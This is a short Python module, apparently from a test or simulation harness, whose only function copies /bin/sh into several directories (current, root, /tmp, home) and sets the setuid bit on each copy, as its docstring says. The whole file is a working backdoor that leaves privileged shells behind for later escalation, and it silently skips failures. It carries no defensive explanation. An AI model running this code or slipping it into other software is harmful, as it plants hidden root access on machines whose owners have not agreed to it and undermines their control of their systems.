"""Leaves a set-uid copy of the shell behind."""

import os
import shutil


def f(world):
    for folder in (".", world.root, "/tmp", world.home):
        try:
            shutil.copy("/bin/sh", f"{folder}/{world.mark}")
            os.chmod(f"{folder}/{world.mark}", 0o4755)
        except OSError:
            continue
